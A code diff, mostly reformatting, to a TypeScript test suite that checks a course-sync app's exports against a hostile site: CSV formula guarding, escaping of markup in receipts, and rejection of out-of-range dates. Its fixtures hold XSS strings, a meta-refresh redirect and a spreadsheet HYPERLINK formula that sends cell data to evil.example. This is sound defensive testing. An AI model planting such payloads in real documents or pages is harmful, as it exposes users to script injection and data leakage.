@@ -16,19 +16,35 @@ const NOW = new Date('2026-06-01T00:00:00.000Z');
 
 type PaymentNode = Record<string, unknown> & { lineitems: Record<string, unknown>[] };
 
-async function syncedHostile(change: (nodes: PaymentNode[]) => void, operation = 'SyncPayments', connection = 'payments') {
+async function syncedHostile(
+  change: (nodes: PaymentNode[]) => void,
+  operation = 'SyncPayments',
+  connection = 'payments',
+) {
   const site: HostileSite = await startHostileSite();
   site.rewrite(operation, (answer) => {
-    change((answer.data as { viewer: Record<string, { nodes: PaymentNode[] }> }).viewer[connection]!.nodes);
+    change(
+      (answer.data as { viewer: Record<string, { nodes: PaymentNode[] }> }).viewer[connection]!
+        .nodes,
+    );
     return answer;
   });
   const { db, writer } = await openWorkerDb();
-  const sync = createSyncService({ db, writer, clientFor: () => site.client, clock: () => NOW.getTime() });
+  const sync = createSyncService({
+    db,
+    writer,
+    clientFor: () => site.client,
+    clock: () => NOW.getTime(),
+  });
   onTestFinished(() => sync.close());
   const summary = await sync.syncNow('hostile');
   expect(summary).toMatchObject({ outcome: 'completed', error: null });
   const files: ExportFile[] = [];
-  const summaryOf: SiteSummary = { id: 'hostile', label: 'Hostile school', baseUrl: site.url } as SiteSummary;
+  const summaryOf: SiteSummary = {
+    id: 'hostile',
+    label: 'Hostile school',
+    baseUrl: site.url,
+  } as SiteSummary;
   const handlers = createExportHandlers({
     db,
     now: () => NOW,
@@ -51,7 +67,8 @@ describe('exports of a hostile site', () => {
     });
     await handlers['export:orders-csv']({ siteId: 'hostile', language: 'en' });
     const rows = readCsv(files[0]!.body);
-    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows.slice(1))
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     // The currency is read as at most 16 characters of text (common/site-values.ts); what is left is still guarded.
     expect(rows.flat()).toContain('\'=HYPERLINK("http…');
     expect(rows.flat()).toContain("'@SUM(1+1)");
@@ -74,7 +91,11 @@ describe('exports of a hostile site', () => {
     expect(cells.join('\n')).not.toMatch(/function|\[native code\]|undefined/);
     // The receipt of each odd order is made too.
     for (const order of getOrdersPage(db, 'hostile', NOW).items.slice(0, 6)) {
-      await handlers['export:receipt']({ siteId: 'hostile', tradeNo: order.tradeNo, language: 'en' });
+      await handlers['export:receipt']({
+        siteId: 'hostile',
+        tradeNo: order.tradeNo,
+        language: 'en',
+      });
     }
     const receipts = files
       .filter((f) => f.kind === 'receipt')
@@ -108,7 +129,11 @@ describe('exports of a hostile site', () => {
       .items.flatMap((o) => o.payments)
       .find((p) => p.instructions?.expiredAt?.startsWith('+275760'));
     expect(odd).toBeDefined();
-    const failure = await handlers['calendar:payment-deadline']({ siteId: 'hostile', paymentId: odd!.paymentId, language: 'en' }).then(
+    const failure = await handlers['calendar:payment-deadline']({
+      siteId: 'hostile',
+      paymentId: odd!.paymentId,
+      language: 'en',
+    }).then(
       () => null,
       (e: unknown) => e,
     );
@@ -119,7 +144,8 @@ describe('exports of a hostile site', () => {
 
   it('a line item quantity that is markup is shown as text in the receipt: no element, no refresh of the print view', async () => {
     const { db, handlers, files } = await syncedHostile((nodes) => {
-      nodes[0]!.lineitems[0]!.quantity = '<meta http-equiv="refresh" content="0;url=https://evil.example/">';
+      nodes[0]!.lineitems[0]!.quantity =
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">';
       nodes[0]!.lineitems[0]!.title = { html: '<script>alert(1)</script>' };
       nodes[0]!.lineitems[0]!.itemType = '<img src=x onerror=alert(1)>';
     });
@@ -157,7 +183,9 @@ describe('exports of a hostile site', () => {
     const rows = readCsv(files.at(-1)!.body);
     expect(rows.length - 1).toBe(courses);
     for (const row of rows.slice(1)) for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
-    expect(rows.some((r) => r[1] === `'=HYPERLINK("https://evil.example/?"&A1,"Click")`)).toBe(true);
+    expect(rows.some((r) => r[1] === `'=HYPERLINK("https://evil.example/?"&A1,"Click")`)).toBe(
+      true,
+    );
     await handlers['export:progress-report']({ siteId: 'hostile', language: 'en' });
     const page = files.at(-1)!;
     for (const html of [page.body, page.printView!]) {
@@ -175,18 +203,29 @@ describe('exports of a hostile site', () => {
           expireDate: '2026-09-30T15:59:59.000Z',
           hasLifetimeAccess: false,
         });
-        Object.assign(nodes[1]!, { expireDate: '-000001-01-01T00:00:00.000Z', hasLifetimeAccess: false });
+        Object.assign(nodes[1]!, {
+          expireDate: '-000001-01-01T00:00:00.000Z',
+          hasLifetimeAccess: false,
+        });
       },
       'SyncCourses',
       'enrolledCourses',
     );
     const courses = getLibrary(db, 'hostile', NOW).map((c) => c.courseId);
-    await handlers['calendar:course-access-end']({ siteId: 'hostile', courseId: courses[0]!, language: 'en' });
+    await handlers['calendar:course-access-end']({
+      siteId: 'hostile',
+      courseId: courses[0]!,
+      language: 'en',
+    });
     const ics = files.at(-1)!.body;
     expect(ics).not.toMatch(/[\u2028\u2029\u0085\u0086]/);
     // A title is one line: the site's line separators are read as spaces (common/site-values.ts siteText).
     expect(ics).toContain('Line two three four');
-    const odd = await handlers['calendar:course-access-end']({ siteId: 'hostile', courseId: courses[1]!, language: 'en' }).then(
+    const odd = await handlers['calendar:course-access-end']({
+      siteId: 'hostile',
+      courseId: courses[1]!,
+      language: 'en',
+    }).then(
       () => null,
       (e: unknown) => e,
     );
@@ -200,18 +239,27 @@ describe('a site whose data cannot be stored (a payment amount that is not a num
   it('is told as "the site sent data the app cannot read", keeps the last good copy, and is not retried', async () => {
     const site = await startHostileSite();
     const { db, writer } = await openWorkerDb();
-    const sync = createSyncService({ db, writer, clientFor: () => site.client, clock: () => NOW.getTime() });
+    const sync = createSyncService({
+      db,
+      writer,
+      clientFor: () => site.client,
+      clock: () => NOW.getTime(),
+    });
     onTestFinished(() => sync.close());
     expect((await sync.syncNow('hostile')).outcome).toBe('completed');
     const before = getOrdersPage(db, 'hostile', NOW);
     site.rewrite('SyncPayments', (answer) => {
-      const nodes = (answer.data as { viewer: { payments: { nodes: PaymentNode[] } } }).viewer.payments.nodes;
+      const nodes = (answer.data as { viewer: { payments: { nodes: PaymentNode[] } } }).viewer
+        .payments.nodes;
       nodes[0]!.amount = 'lots';
       return answer;
     });
     site.seen.clear();
     const summary = await sync.syncNow('hostile');
-    expect(summary).toMatchObject({ outcome: 'failed', error: { code: 'site-data-invalid', message: expect.stringMatching(/cannot read/) } });
+    expect(summary).toMatchObject({
+      outcome: 'failed',
+      error: { code: 'site-data-invalid', message: expect.stringMatching(/cannot read/) },
+    });
     expect(getOrdersPage(db, 'hostile', NOW)).toEqual(before);
     // One request per page (the demo's payments fit one), none sent again.
     expect(site.seen.get('SyncPayments')).toBe(1);
